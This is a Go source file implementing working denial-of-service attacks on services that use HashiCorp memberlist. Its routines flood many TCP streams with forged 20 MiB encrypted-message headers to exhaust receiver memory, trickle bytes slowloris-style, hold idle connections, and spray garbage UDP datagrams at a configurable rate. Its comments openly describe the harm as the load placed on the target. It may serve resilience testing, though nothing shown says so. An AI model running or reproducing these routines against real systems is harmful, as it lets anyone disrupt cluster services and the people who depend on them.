package stranger

import (
	"context"
	"encoding/binary"
	"errors"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"
)

// Streams says how TCP streams are opened, and for how long.
type Streams struct {
	// Dial connects to Target, an IP address with a port.
	Dial   Dialer
	Target string
	// Count is how many streams are tried to be kept open at once.
	Count int
	// For is how long the attack lasts.
	For time.Duration
	// Rate is how many bytes a second all streams send together.
	Rate int
	// First is what Idle sends on each connection before it falls silent, such as a request.
	First []byte
}

// StreamResult is what came of streams.
type StreamResult struct {
	// Opened is how many connections were made, Failed how many could not be made.
	Opened, Failed int
	// Closed is how many the other side closed, or refused to go on with.
	Closed int
	// Bytes is how much was sent in all.
	Bytes int64
	// Open is how many were open when the time was over.
	Open int
}

// dialing is how many streams connect at the same moment.
const dialing = 32

// again is how long a stream waits before it connects anew: the harm is to be the load of those that are
// served, and not of this machine.
const again = 50 * time.Millisecond

// What memberlist calls encryptMsg, and the length that a sender without the key announces. The length is the
// largest that it takes.
const (
	encryptMessage = 10
	announced      = 20 << 20
	chunk          = 32 << 10
)

// Flood keeps streams open that each announce an encrypted message of 20 MiB and send zeros. A process
// that reads them before it asks for the key holds up to 20 MiB for each.
func Flood(ctx context.Context, s Streams) StreamResult {
	header := binary.BigEndian.AppendUint32([]byte{encryptMessage}, announced)
	each := max(1, s.Rate/max(1, s.Count))
	zeros := make([]byte, chunk)
	return s.run(ctx, func(ctx context.Context, conn net.Conn, sent *atomic.Int64) {
		started := time.Now()
		out, total := header, 0
		for total < announced {
			n, err := conn.Write(out)
			sent.Add(int64(n))
			total += n
			if err != nil {
				return
			}
			out = zeros
			// What is ahead of its rate waits.
			ahead := time.Duration(float64(total)/float64(each)*float64(time.Second)) - time.Since(started)
			if ahead > 0 && !pause(ctx, ahead) {
				return
			}
		}
	})
}

// Trickle keeps streams open that each announce an encrypted message and send one byte a second: whoever
// waits for the rest keeps a connection and a goroutine for nothing.
func Trickle(ctx context.Context, s Streams) StreamResult {
	header := binary.BigEndian.AppendUint32([]byte{encryptMessage}, announced)
	return s.run(ctx, func(ctx context.Context, conn net.Conn, sent *atomic.Int64) {
		for i := 0; ; i++ {
			b := byte(0)
			if i < len(header) {
				b = header[i]
			}
			n, err := conn.Write([]byte{b})
			sent.Add(int64(n))
			if err != nil || !pause(ctx, time.Second) {
				return
			}
		}
	})
}

// Idle keeps connections open on which nothing is sent after First.
func Idle(ctx context.Context, s Streams) StreamResult {
	return s.run(ctx, func(ctx context.Context, conn net.Conn, sent *atomic.Int64) {
		n, err := conn.Write(s.First)
		sent.Add(int64(n))
		if err != nil {
			return
		}
		// It ends with what the other side does, or with the time.
		answer := make([]byte, 512)
		for ctx.Err() == nil {
			if _, err := conn.Read(answer); err != nil {
				return
			}
		}
	})
}

// run keeps Count streams open, each connected anew when it has ended, until the time is over.
func (s Streams) run(ctx context.Context, use func(context.Context, net.Conn, *atomic.Int64)) StreamResult {
	ctx, cancel := context.WithTimeout(ctx, s.For)
	defer cancel()
	var opened, failed, closed, open atomic.Int64
	var sent atomic.Int64
	var all sync.WaitGroup
	turn := make(chan struct{}, dialing)
	dial := func() (net.Conn, error) {
		select {
		case turn <- struct{}{}:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
		defer func() { <-turn }()
		return s.Dial(ctx, "tcp", s.Target)
	}
	for range s.Count {
		all.Go(func() {
			for ctx.Err() == nil {
				conn, err := dial()
				if err != nil {
					if ctx.Err() == nil {
						failed.Add(1)
						pause(ctx, again)
					}
					continue
				}
				opened.Add(1)
				// A stream that waits, whatever for, ends with the time.
				stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Now()) })
				use(ctx, conn, &sent)
				if stillOpen(ctx, conn) {
					open.Add(1)
				} else {
					closed.Add(1)
				}
				stop()
				_ = conn.Close()
				pause(ctx, again)
			}
		})
	}
	all.Wait()
	return StreamResult{
		Opened: int(opened.Load()),
		Failed: int(failed.Load()),
		Closed: int(closed.Load()),
		Bytes:  sent.Load(),
		Open:   int(open.Load()),
	}
}

// stillOpen tells, once the time is over, whether the other side has left a connection open.
func stillOpen(ctx context.Context, conn net.Conn) bool {
	if ctx.Err() == nil {
		return false
	}
	_ = conn.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
	_, err := conn.Read(make([]byte, 1))
	return err == nil || errors.Is(err, os.ErrDeadlineExceeded)
}

// Datagrams sends garbage datagrams of 512 bytes, so many a second, and returns how many it sent.
func Datagrams(
	ctx context.Context, dial Dialer, target string, perSecond int, howLong time.Duration,
) (int, error) {
	ctx, cancel := context.WithTimeout(ctx, howLong)
	defer cancel()
	conn, err := dial(ctx, "udp", target)
	if err != nil {
		return 0, err
	}
	defer conn.Close() //nolint:errcheck // datagrams that were sent are sent
	garbage := make([]byte, 512)
	garbage[0] = encryptMessage
	sent := 0
	every(ctx, perSecond, func() {
		// A port that is closed makes every second one fail; it is sent to all the same.
		if _, err := conn.Write(garbage); err == nil {
			sent++
		}
	})
	return sent, nil
}

// every calls do so many times a second until the context ends. What could not be done in time is not made up
// for by more than a tenth of a second's worth at once.
func every(ctx context.Context, perSecond int, do func()) {
	const slice = 10 * time.Millisecond
	ticker := time.NewTicker(slice)
	defer ticker.Stop()
	start, done := time.Now(), 0
	for {
		due := int(time.Since(start).Seconds() * float64(perSecond))
		done = max(done, due-max(1, perSecond/10))
		for ; done < due && ctx.Err() == nil; done++ {
			do()
		}
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
		}
	}
}
